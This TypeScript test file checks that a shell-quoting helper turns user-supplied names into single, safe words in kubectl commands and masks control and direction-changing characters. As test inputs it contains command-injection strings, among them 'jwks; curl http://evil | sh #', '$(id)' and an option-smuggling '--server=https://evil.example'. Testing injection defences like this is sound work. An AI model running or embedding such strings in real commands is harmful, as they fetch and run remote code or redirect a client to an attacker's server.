// Commands that are shown for copying, in a real shell, with names that somebody made for it.
import { execFileSync } from "node:child_process";
import * as fc from "fast-check";
import { expect, it } from "vitest";
import { shellCommand } from "./messages.ts";

/** The words that the shell makes of a command, which is not run. */
function wordsOf(command: string): readonly string[] {
  const words = execFileSync("sh", ["-c", `printf '%s\\0' ${command}`], { encoding: "utf8" });
  return words.split("\0").slice(0, -1);
}

it.each(["shop", "jwks; curl http://evil | sh #", "$(id)", "`id`", "it's", "a b", "*", "~", "a\\", "#", "", '"'])("takes %j as one word", (name) => {
  expect(wordsOf(shellCommand`kubectl get configmap ${name} ${["-n", name]} -o yaml`)).toEqual([
    "kubectl",
    "get",
    "configmap",
    name,
    "-n",
    name,
    "-o",
    "yaml",
  ]);
  expect(wordsOf(shellCommand`kubectl annotate x ${name}=${name}`)).toEqual(["kubectl", "annotate", "x", `${name}=${name}`]);
});

it("takes a name for no option, whatever it is called", () => {
  expect(wordsOf(shellCommand`kubectl get configmap ${"--server=https://evil.example"} ${["-n", "shop"]}`).slice(3)).toEqual([
    "?-server=https://evil.example",
    "-n",
    "shop",
  ]);
  // The thumbprint of a key may begin with a dash.
  expect(shellCommand`kubectl annotate x keyturn.io/revoke=${"-aZ"}`).toBe("kubectl annotate x keyturn.io/revoke=-aZ");
});

it("shows nothing that turns the direction of a text, or that nobody sees", () => {
  expect(shellCommand`get ${"a\u202eb\u200bc\u2066"}`).toBe("get 'a?b?c?'");
});

it("takes any text as one word, and shows no control character", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme" }), (text) => {
      // oxlint-disable-next-line no-control-regex -- they are what it is about
      const visible = text.replaceAll(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/g, "?").replace(/^-/, "?");
      expect(wordsOf(shellCommand`get ${text}`)).toEqual(["get", visible]);
    }),
    { numRuns: 50 },
  );
});

it("leaves what needs no quotes as people type it, and no gap where there is nothing", () => {
  expect(shellCommand`kubectl get jwksconfigs.keyturn.io tokens ${["-n", "shop"]} -o yaml`).toBe(
    "kubectl get jwksconfigs.keyturn.io tokens -n shop -o yaml",
  );
  expect(shellCommand`keyturn diff ${[]}`).toBe("keyturn diff");
  expect(shellCommand`kubectl get x ${[]} -o yaml`).toBe("kubectl get x -o yaml");
});
